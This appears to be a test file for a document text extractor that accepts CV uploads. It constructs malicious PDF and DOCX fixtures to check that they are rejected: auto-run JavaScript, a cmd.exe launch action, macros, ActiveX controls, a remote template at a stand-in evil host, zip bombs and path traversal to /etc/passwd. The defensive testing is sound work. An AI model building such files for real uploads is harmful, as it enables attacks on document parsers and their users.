import { deflateRawSync, deflateSync } from 'node:zlib'
import { Document as DocxDocument, Packer, Paragraph, TextRun } from 'docx'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { renderCv } from './cv-fixture'
import { extractText, sniffDocument } from './extract-text'

const codeOf = async (bytes: Uint8Array) => {
  const result = await extractText(bytes)
  return result.ok ? 'ok' : result.failure.code
}

const docx = (text: string) =>
  Packer.toBuffer(
    new DocxDocument({
      sections: [
        {
          children: text
            .split('\n')
            .map((line) => new Paragraph({ children: [new TextRun(line)] })),
        },
      ],
    }),
  )

const cvLines = ['Łucja Żółkiewska', 'Оператор крана', 'Skills: TIG welding, Git, CNC']

/** A ZIP by hand, to write what no honest program writes. */
const zip = (
  files: { name: string; content: Buffer; declared?: number; flags?: number; method?: number }[],
) => {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { name, content, declared = content.length, flags = 0, method = 8 } of files) {
    const packed = method === 8 ? deflateRawSync(content) : content
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(flags, 6)
    local.writeUInt16LE(method, 8)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(declared, 22)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(flags, 8)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(declared, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(offset, 42)
    locals.push(local, Buffer.from(name), packed)
    directory.push(entry, Buffer.from(name))
    offset += 30 + name.length + packed.length
  }
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(Buffer.concat(directory).length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, ...directory, end])
}

const wordType = (main: string) =>
  Buffer.from(
    `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.${main}.main+xml"/></Types>`,
  )
const plainType = wordType('openxmlformats-officedocument.wordprocessingml.document')
const body = Buffer.from('<w:document/>')
const wordFiles = [
  { name: '[Content_Types].xml', content: plainType },
  { name: 'word/document.xml', content: body },
]

/** A minimal PDF with the given entries in its catalog. */
const pdf = (catalog: string, more = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n` +
      `2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n` +
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n${more}` +
      `trailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  )

const objectStream = (content: string) => {
  const packed = deflateSync(Buffer.from(content))
  return `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream\nendobj\n`
}

describe('the text of a document', () => {
  it('comes out of a real PDF with its pages', async () => {
    const result = await extractText(await renderCv({ pages: [cvLines, ['Second page']] }))
    expect(result).toMatchObject({ ok: true, value: { kind: 'pdf', pages: 2 } })
    if (!result.ok) return
    for (const line of [...cvLines, 'Second page']) expect(result.value.text).toContain(line)
  })

  it('comes out of a real DOCX', async () => {
    const result = await extractText(await docx(cvLines.join('\n')))
    expect(result).toEqual({ ok: true, value: { kind: 'docx', text: cvLines.join('\n\n') } })
  })

  it('is missing in a scan and in an empty document', async () => {
    expect(await codeOf(await renderCv({ pages: [[]] }))).toBe('empty')
    expect(await codeOf(await docx(''))).toBe('empty')
  })

  it('leaves the bytes it was given as they were', async () => {
    const bytes = await renderCv({ pages: [cvLines] })
    const before = Buffer.from(bytes).toString('hex')
    await extractText(bytes)
    expect(Buffer.from(bytes).toString('hex')).toBe(before)
  })
})

describe('what is not a document', () => {
  it.each([
    ['nothing', Buffer.alloc(0)],
    ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['a Windows program', Buffer.from('MZ\u0090\0\u0003')],
    ['plain text', Buffer.from('Curriculum vitae')],
    ['a JPEG', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
    ['a PDF behind something else', Buffer.concat([Buffer.from('\xff\xd8\n'), pdf('')])],
    ['a PDF behind one blank', Buffer.concat([Buffer.from(' '), pdf('')])],
    [
      'a PDF that is a web page too',
      Buffer.from(`%PDF-1.7\n<html><script>1</script>\n${pdf('').toString('latin1')}`),
    ],
    ['a PDF that is an archive too', Buffer.concat([pdf(''), zip(wordFiles)])],
    ['an archive of anything', zip([{ name: 'a.txt', content: body }])],
    [
      'a spreadsheet',
      zip([
        { name: '[Content_Types].xml', content: wordType('openxmlformats.spreadsheetml.sheet') },
        { name: 'word/document.xml', content: body },
      ]),
    ],
  ])('%s is unsupported', async (_, bytes) => {
    expect(await codeOf(bytes)).toBe('unsupported')
  })

  it('damaged files are unreadable, not an error', async () => {
    const word = await docx('text')
    expect(await codeOf(word.subarray(0, word.length - 40))).toBe('unreadable')
    expect(await codeOf(Buffer.from('%PDF-1.7\nnothing more'))).toBe('unreadable')
    const broken = { name: 'word/document.xml', content: Buffer.from('<w:document') }
    const [types] = wordFiles
    expect(await codeOf(zip([...(types ? [types] : []), broken]))).toBe('unreadable')
  })

  it('any bytes get an answer', async () => {
    const start = fc.constantFrom('%PDF-1.7\n', 'PK\u0003\u0004', '')
    await fc.assert(
      fc.asyncProperty(start, fc.uint8Array({ maxLength: 400 }), async (head, tail) => {
        const result = await sniffDocument(Buffer.concat([Buffer.from(head, 'latin1'), tail]))
        expect(typeof result.ok).toBe('boolean')
      }),
    )
  })
})

describe('what would act when opened', () => {
  it.each([
    ['a script on opening', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a script with an escaped name', pdf('/OpenAction << /S /J#61vaScript /JS (1) >>')],
    ['a launch action', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['an XFA form', pdf('/AcroForm << /XFA 9 0 R >>')],
    ['a script in an object stream', pdf('', objectStream('9 0 << /S /JavaScript /JS (1) >>'))],
    [
      'macros',
      zip([
        { name: '[Content_Types].xml', content: wordType('ms-word.document.macroEnabled') },
        { name: 'word/document.xml', content: body },
      ]),
    ],
    ['a macro part', zip([...wordFiles, { name: 'word/vbaProject.bin', content: body }])],
    ['a control', zip([...wordFiles, { name: 'word/activeX/activeX1.bin', content: body }])],
    [
      'a template from elsewhere',
      zip([
        ...wordFiles,
        {
          name: 'word/_rels/settings.xml.rels',
          content: Buffer.from(
            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          ),
        },
      ]),
    ],
  ])('%s is active content', async (_, bytes) => {
    expect(await codeOf(bytes)).toBe('active-content')
  })

  it('a goal page on opening and a link are not', async () => {
    expect(await sniffDocument(pdf('/OpenAction [3 0 R /Fit]'))).toEqual({ ok: true, value: 'pdf' })
  })
})

describe('what is locked or too large', () => {
  it('encrypted files are named as such', async () => {
    expect(await codeOf(await renderCv({ pages: [cvLines], password: 'secret' }))).toBe('encrypted')
    expect(await codeOf(pdf('', '8 0 obj\n<< /Encrypt 7 0 R >>\nendobj\n'))).toBe('encrypted')
    const locked = { name: 'word/document.xml', content: body, flags: 1 }
    expect(await codeOf(zip([locked]))).toBe('encrypted')
  })

  const zeros = Buffer.alloc(60_000_000)
  it.each([
    ['unpacks to more than 50 MB', zip([{ name: 'word/document.xml', content: zeros }])],
    [
      'unpacks to 200 times its size',
      zip([{ name: 'word/document.xml', content: zeros.subarray(0, 5_000_000) }]),
    ],
    [
      'lies about what it unpacks to',
      zip([{ name: 'word/document.xml', content: zeros, declared: 900_000 }]),
    ],
    [
      'hides a bomb in a PDF stream',
      pdf(
        '',
        `8 0 obj\n<< /Filter /FlateDecode >>\nstream\n${deflateSync(zeros).toString('latin1')}\nendstream\nendobj\n`,
      ),
    ],
    ['is larger than 20 MB', Buffer.concat([pdf(''), Buffer.alloc(20 * 1024 * 1024)])],
  ])('a file that %s is too large, and costs little', async (_, bytes) => {
    const before = process.memoryUsage().rss
    const startedAt = performance.now()
    expect(await codeOf(bytes)).toBe('too-large')
    expect(performance.now() - startedAt).toBeLessThan(1000)
    expect(process.memoryUsage().rss - before).toBeLessThan(150_000_000)
  })

  it.each([
    ['a path upwards', [{ name: '../../etc/passwd', content: body }]],
    ['an absolute path', [{ name: '/etc/passwd', content: body }]],
    ['two entries of one name', [...wordFiles, ...wordFiles]],
    ['an unknown compression', [{ name: 'a', content: body, method: 14 }]],
  ])('an archive with %s is unreadable', async (_, files) => {
    expect(await codeOf(zip(files))).toBe('unreadable')
  })
})
